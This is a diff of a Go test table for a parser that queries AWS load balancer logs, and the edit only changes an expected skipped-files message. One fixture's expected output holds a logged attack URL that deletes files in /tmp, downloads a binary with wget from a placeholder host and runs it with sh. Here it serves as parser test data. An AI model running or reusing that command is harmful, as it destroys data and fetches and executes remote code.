@@ -36,7 +36,7 @@ const (
 var inputs = []input{
 	{folder: "alb-escaped-quote-ua", ask: "SELECT user_agent, elb_status_code FROM alb ORDER BY 1", want: `"a \""b\"" c",200|curl/8,200`},
 	{folder: "alb-firehose-json", says: "1 object is in no table:\n"},
-	{folder: "alb-health-and-test", ask: "SELECT count(*), min(request_verb) FROM alb", want: "1,GET", says: "2 files were left out: 2 no logs but AWS's own files"},
+	{folder: "alb-health-and-test", ask: "SELECT count(*), min(request_verb) FROM alb", want: "1,GET", says: "2 files were left out: 1 of a form or a version that is not read, 1 no logs but AWS's own files"},
 	{folder: "alb-malformed-requests", ask: "SELECT count(*), count(unparsed), count_if(elb_status_code >= 400) FROM alb", want: "12,0,3"},
 	{folder: "alb-space-in-uri", ask: "SELECT request_url, classification_reason FROM alb", want: "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example.com/jaws;sh+/tmp/jaws,SpaceInUri"},
 	{folder: "alb-target-list-two", ask: "SELECT target_port_list, target_status_code_list FROM alb", want: "10.0.1.11:8080 10.0.1.12:8080,500 200"},
